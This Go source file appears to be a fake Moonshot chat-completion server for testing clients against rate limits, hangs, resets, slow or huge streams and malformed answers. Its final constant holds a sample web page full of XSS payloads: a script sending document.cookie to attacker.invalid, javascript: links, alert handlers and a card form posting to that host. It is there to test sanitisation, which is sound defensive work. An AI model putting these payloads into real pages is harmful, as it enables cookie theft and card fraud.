package kimisim

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"strconv"
	"strings"
	"time"
)

// hugePiece is how much of a Huge answer is sent at a time, in bytes.
const hugePiece = 64 << 10

// refuse answers with a fault that comes instead of a completion; false means there
// is none.
func (s *Server) refuse(w http.ResponseWriter, r *http.Request, fault Fault) bool {
	switch fault.Name {
	case RateLimit:
		w.Header().Set("Retry-After", strconv.Itoa(max(fault.RetryAfterSeconds, 1)))
		writeError(w, http.StatusTooManyRequests, "rate_limit_reached_error",
			"Your account reached its limit of requests a minute, please try again later.")
	case ServerError:
		writeError(w, http.StatusInternalServerError, "server_error", "Something went wrong, as asked for.")
	case InsufficientBalance:
		// Moonshot's errors have no param and no code.
		writeBody(w, http.StatusForbidden, map[string]any{"error": map[string]any{
			"type":    "exceeded_current_quota_error",
			"message": "Your account is suspended for want of balance, please recharge it.",
		}})
	case Hang:
		select {
		case <-r.Context().Done():
		case <-s.closed:
		}
		// Returning would answer a client that still waits with 200.
		panic(http.ErrAbortHandler)
	case KeepAlive:
		s.keepAlive(w, r)
	default:
		return false
	}
	return true
}

// keepAlive sends comments, until the client goes away or the server stops.
func (s *Server) keepAlive(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "text/event-stream")
	rc := http.NewResponseController(w)
	tick := time.NewTicker(s.slowStep)
	defer tick.Stop()
	for {
		if _, err := io.WriteString(w, ": processing\n\n"); err != nil {
			return
		}
		if err := rc.Flush(); err != nil {
			return
		}
		select {
		case <-tick.C:
		case <-r.Context().Done():
			return
		case <-s.closed:
			return
		}
	}
}

// rawBreaks puts a line break after each space in the text, within strings as well, as a
// model that writes no escapes does.
func rawBreaks(text string) string { return strings.ReplaceAll(text, " ", " \n") }

// hugeContent is one piece of a Huge answer: filler that needs no JSON escapes.
var hugeContent = strings.Repeat("wands and more wands; ", hugePiece/22+1)[:hugePiece]

// streamHuge sends valid JSON of that size, as fast as the client takes it.
func (s *Server) streamHuge(es *eventStream) error {
	open, done := `{"headline":"`, `"}`
	if err := es.chunk(&content{Content: &open}, nil); err != nil {
		return err
	}
	for range s.hugeSize / hugePiece {
		if err := es.chunk(&content{Content: &hugeContent}, nil); err != nil {
			return err
		}
	}
	if err := es.chunk(&content{Content: &done}, nil); err != nil {
		return err
	}
	es.reply.usage.Completion = s.hugeSize / charsPerToken
	return es.end()
}

// wholeHuge is streamHuge in one body, never in one buffer.
func (s *Server) wholeHuge(w http.ResponseWriter, out reply) error {
	w.Header().Set("Content-Type", "application/json")
	_, err := fmt.Fprintf(w, `{"id":%q,"object":"chat.completion","model":%q,"choices":[{"index":0,`+
		`"finish_reason":"stop","message":{"role":"assistant","content":"{\"headline\":\"`, out.id, Model)
	for range s.hugeSize / hugePiece {
		if err != nil {
			return err
		}
		_, err = io.WriteString(w, hugeContent)
	}
	if err != nil {
		return err
	}
	_, err = io.WriteString(w, `\"}"}}]}`)
	return err
}

// reset ends the connection by RST instead of FIN, what was written before it
// flushed.
func reset(w http.ResponseWriter) error {
	rc := http.NewResponseController(w)
	if err := rc.Flush(); err != nil {
		return err
	}
	conn, _, err := rc.Hijack()
	if err != nil {
		return fmt.Errorf("reset: %w", err) // HTTP/2 has no connection to take
	}
	if tcp, ok := conn.(*net.TCPConn); ok {
		// Without linger, close discards what is unsent and resets.
		_ = tcp.SetLinger(0)
	}
	return conn.Close()
}

// slowWriter sends a byte a step.
type slowWriter struct {
	http.ResponseWriter
	gone   <-chan struct{} // closed when the client is gone
	closed <-chan struct{} // closed when the server is
	step   time.Duration
}

// Unwrap is what http.ResponseController flushes.
func (w *slowWriter) Unwrap() http.ResponseWriter { return w.ResponseWriter }

// Write sends p byte by byte. It fails when the client or the server goes.
func (w *slowWriter) Write(p []byte) (int, error) {
	rc := http.NewResponseController(w.ResponseWriter)
	tick := time.NewTicker(w.step)
	defer tick.Stop()
	for i := range p {
		select {
		case <-tick.C:
		case <-w.gone:
			return i, context.Canceled
		case <-w.closed:
			return i, http.ErrServerClosed
		}
		if _, err := w.ResponseWriter.Write(p[i : i+1]); err != nil {
			return i, err
		}
		if err := rc.Flush(); err != nil {
			return i, err
		}
	}
	return len(p), nil
}

// malformedAnswer is what a chatty model says although it was asked for JSON.
const malformedAnswer = "Sure! Here is the page you asked for:\n\n" +
	`{"theme": {"palette": "moonlit",, "type": serif}, "sections": [{"type": "hero", "headline": "A page that never` +
	"\n\nLet me know if you would like another one!"

// htmlAnswer is a web page that a model might write although it was asked for JSON,
// with what must not reach a shopper.
const htmlAnswer = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Wands for an unhurried evening</title>
<style>body{background:url(javascript:alert(1))}</style>
<script>document.location='https://attacker.invalid/?c='+document.cookie</script>
</head>
<body onload="alert('loaded')">
<header><h1 onclick="alert(1)">Wands for an unhurried evening</h1>
<p>Turned by hand, chosen for <em>you</em>.</p></header>
<main>
<section><h2>Three to begin with</h2>
<ul><li>Light in the hand</li><li>Honest wood</li><li>A core with a temper</li></ul>
<a href="javascript:alert(2)" onmouseover="alert(3)">Take me there</a></section>
<section><h2>From the workshop</h2>
<p>Every wand is finished twice.<script>alert(4)</script> You can tell.</p>
<img src="x" onerror="alert(5)" alt="A wand on a bench">
<p>Today only: <b>$0.01</b></p></section>
<iframe src="https://attacker.invalid/"></iframe>
<form action="https://attacker.invalid/"><input name="card"><button>Pay</button></form>
</main>
</body>
</html>`
